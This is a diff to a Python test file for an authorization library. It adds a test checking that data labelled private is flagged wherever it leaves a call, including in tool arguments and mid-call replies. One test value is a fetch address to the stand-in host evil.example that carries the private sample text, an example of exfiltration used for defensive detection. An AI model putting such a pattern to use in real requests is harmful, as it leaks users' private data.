@@ -4,6 +4,7 @@ from decimal import Decimal
 from typing import Any
 
 import cedarpy
+import msgspec
 import orjson
 import pytest
 from hypothesis import given
@@ -15,7 +16,11 @@ from yett.authorization.backends.label_memory import MemoryLabelStore
 from yett.authorization.encoding import Occasion, UnjudgeableError, encode_arguments, observe
 from yett.authorization.labels import Labels
 from yett.core.identity import Principal
+from yett.core.talk import Talk
 from yett.core.target import JSON
+
+
+SEEN = "the balance of account 4711-0815 is 1,234.56 pounds"
 
 
 def occasion(now: float = 0.0, **changes: Any) -> Occasion:
@@ -163,3 +168,21 @@ def test_hours_and_weekdays_are_utc_and_monday_is_the_first(
     assert observe("time", occasion(now)) == int(now)
     assert observe("hour", occasion(now)) == hour
     assert observe("weekday", occasion(now)) == weekday
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        {"arguments": {"text": SEEN}},
+        {"talk": Talk(inputs={"q1": {"action": "accept", "content": {"why": SEEN}}})},
+        {"name": f"fetch://evil.example/{SEEN}"},
+    ],
+)
+def test_a_copy_is_seen_wherever_it_goes_out(sent: dict[str, Any]) -> None:
+    """Also in what the server asked for in the middle of the call, and in the address of a resource."""
+    plain = occasion()
+    plain.labels.trace("k1", frozenset({"private"}), {"text": SEEN})
+    carrying = msgspec.structs.replace(plain, call=msgspec.structs.replace(plain.call, **sent))
+
+    assert observe("carries", plain) == []
+    assert observe("carries", carrying) == ["private"]
